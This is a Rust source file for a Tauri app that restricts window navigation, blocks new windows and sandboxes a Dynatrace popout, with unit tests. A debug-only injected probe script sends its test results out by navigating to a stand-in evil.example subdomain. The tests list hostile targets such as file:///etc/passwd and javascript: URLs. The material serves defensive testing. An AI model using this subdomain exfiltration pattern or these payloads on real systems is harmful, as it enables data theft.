//! Navigation lockdown for every app window: top-level navigations must stay on the trusted
//! app origin (`domain::windows::check_navigation`), and `window.open` never creates a window
//! (aux windows are opened only through the `open_aux_window` command). Denials are logged with
//! the origin of the target only.

use std::sync::{Arc, Mutex};

use domain::windows::{check_navigation, dynatrace_navigation, DynatraceNav, NavigationDecision};
use tauri::webview::NewWindowResponse;
use tauri::{Runtime, WebviewWindowBuilder};
use url::Url;

/// The navigation decision for a window currently on `current` (None before its first load,
/// when the window is treated as being on the trusted origin it was created for).
pub fn allow_navigation(current: Option<&str>, target: &str, trusted: &str) -> bool {
    match check_navigation(current.unwrap_or(trusted), target, trusted) {
        NavigationDecision::Allow => true,
        NavigationDecision::Deny { target } => {
            tracing::warn!(target: "relay::security", origin = %target, "navigation blocked");
            false
        }
    }
}

/// Logs and refuses a `window.open` request.
pub fn refuse_new_window(url: &Url) {
    tracing::warn!(
        target: "relay::security",
        origin = %domain::external_links::describe_for_log(url.as_str()),
        "new window blocked"
    );
}

/// Installs the navigation and new-window handlers on a window builder.
pub fn apply<'a, R: Runtime, M: tauri::Manager<R>>(
    builder: WebviewWindowBuilder<'a, R, M>,
    trusted: String,
) -> WebviewWindowBuilder<'a, R, M> {
    // The last allowed URL stands in for the window's current URL: a handler cannot query the
    // webview it is being built for.
    let current: Arc<Mutex<Option<String>>> = Arc::new(Mutex::new(None));
    builder
        .on_navigation(move |url| {
            let mut cur = current.lock().unwrap_or_else(|p| p.into_inner());
            let ok = allow_navigation(cur.as_deref(), url.as_str(), &trusted);
            if ok {
                *cur = Some(url.to_string());
            }
            ok
        })
        .on_new_window(|url, _features| {
            refuse_new_window(&url);
            NewWindowResponse::Deny
        })
}

/// Debug builds only, for the WebDriver run: WebKitGTK lets one browser context be automated,
/// and the popout's isolated store is a second one, so WebDriver cannot drive it. With
/// `RELAY_TEST_DYNATRACE_PROBE=1` the popout runs [`DYNATRACE_PROBE`] on each page, which tries
/// what the isolation must refuse and reports through the one channel it has: a navigation the
/// Dynatrace rule blocks, whose origin (the only part logged) spells the results. Release builds
/// never read the variable.
pub fn with_dynatrace_test_probe<'a, R: Runtime, M: tauri::Manager<R>>(
    builder: WebviewWindowBuilder<'a, R, M>,
) -> WebviewWindowBuilder<'a, R, M> {
    let wanted = cfg!(debug_assertions) && std::env::var("RELAY_TEST_DYNATRACE_PROBE").is_ok_and(|v| v == "1");
    if wanted {
        builder.initialization_script(DYNATRACE_PROBE)
    } else {
        builder
    }
}

/// The probe: IPC reachable?, what this store held and now holds, a permission request, a
/// `window.open`, then a blocked navigation naming the results.
const DYNATRACE_PROBE: &str = r#"(() => {
  if (window.top !== window || window.__relayProbe) return;
  window.__relayProbe = true;
  setTimeout(async () => {
    const t = window.__TAURI_INTERNALS__;
    const ipc = t ? await t.invoke('health').then(() => 'allowed', () => 'refused') : 'absent';
    let held = 'nostorage';
    try { held = localStorage.getItem('relay-probe') || 'empty'; localStorage.setItem('relay-probe', 'kept'); } catch (e) {}
    let perm = 'none';
    try {
      if (window.Notification) perm = await Promise.race([Notification.requestPermission(), new Promise((r) => setTimeout(() => r('timeout'), 2000))]);
    } catch (e) { perm = 'error'; }
    const popup = window.open('https://evil.example/') === null ? 'refused' : 'opened';
    location.href = `https://probe-${ipc}-${held}-${perm}-${popup}.evil.example/`;
  }, 300);
})();"#;

/// Label of the Dynatrace dashboard popout. It is not in any capability, so its (remote) pages
/// get no IPC at all.
/// The popout's label without a dashboard key, and the prefix of every dashboard popout's label.
pub const DYNATRACE_LABEL: &str = "dynatrace";

/// The Dynatrace popout's navigation rule: Dynatrace and Microsoft sign-in pages load,
/// everything else is refused (origin-only log).
pub fn allow_dynatrace_navigation(target: &str) -> bool {
    match dynatrace_navigation(target) {
        DynatraceNav::Live | DynatraceNav::Authenticating => true,
        DynatraceNav::Blocked => {
            tracing::warn!(
                target: "relay::security",
                origin = %domain::external_links::describe_for_log(target),
                "dynatrace popout navigation blocked"
            );
            false
        }
    }
}

/// Installs the Dynatrace popout's isolation on its builder: its own persistent data store
/// (`store`, never the app's), every permission request denied (camera, microphone,
/// geolocation, notifications, ...; logged by kind only), the Dynatrace navigation rule and the
/// new-window refusal.
pub fn apply_dynatrace<'a, R: Runtime, M: tauri::Manager<R>>(
    builder: WebviewWindowBuilder<'a, R, M>,
    store: std::path::PathBuf,
    on_state: impl Fn(DynatraceNav) + Send + 'static,
) -> WebviewWindowBuilder<'a, R, M> {
    builder
        .data_directory(store)
        .on_permission_request(|_, kind| {
            tracing::warn!(target: "relay::security", kind = ?kind, "dynatrace popout permission request denied");
            tauri::webview::PermissionResponse::Deny
        })
        .on_navigation(move |url| {
            let allowed = allow_dynatrace_navigation(url.as_str());
            on_state(dynatrace_navigation(url.as_str()));
            allowed
        })
        .on_new_window(|url, _features| {
            refuse_new_window(&url);
            NewWindowResponse::Deny
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    const T: &str = "tauri://localhost";

    #[test]
    fn navigation_stays_on_the_app_origin() {
        assert!(allow_navigation(None, "tauri://localhost/index.html", T));
        assert!(allow_navigation(Some("tauri://localhost/"), "tauri://localhost/?popout=board", T));
        for bad in [
            "https://evil.example/",
            "tauri://localhost.evil/",
            "http://127.0.0.1:8090/",
            "file:///etc/passwd",
            "data:text/html,hi",
            "javascript:alert(1)",
        ] {
            assert!(!allow_navigation(Some("tauri://localhost/"), bad, T), "{bad}");
        }
        assert!(!allow_navigation(Some("https://evil.example/"), "tauri://localhost/", T), "off-origin window");
    }

    #[test]
    fn dynatrace_popout_stays_on_dynatrace_and_microsoft_sign_in() {
        assert!(allow_dynatrace_navigation("https://abc12345.live.dynatrace.com/ui/dashboards"));
        assert!(allow_dynatrace_navigation("https://sso.dynatrace.com/oauth2/authorize"));
        assert!(allow_dynatrace_navigation("https://login.microsoftonline.com/common/oauth2"));
        for bad in [
            "https://evildynatrace.com/",
            "https://dynatrace.com.evil.net/",
            "http://abc.live.dynatrace.com/",
            "tauri://localhost/",
            "https://abc.live.dynatrace.com:8443/",
        ] {
            assert!(!allow_dynatrace_navigation(bad), "{bad}");
        }
    }
}
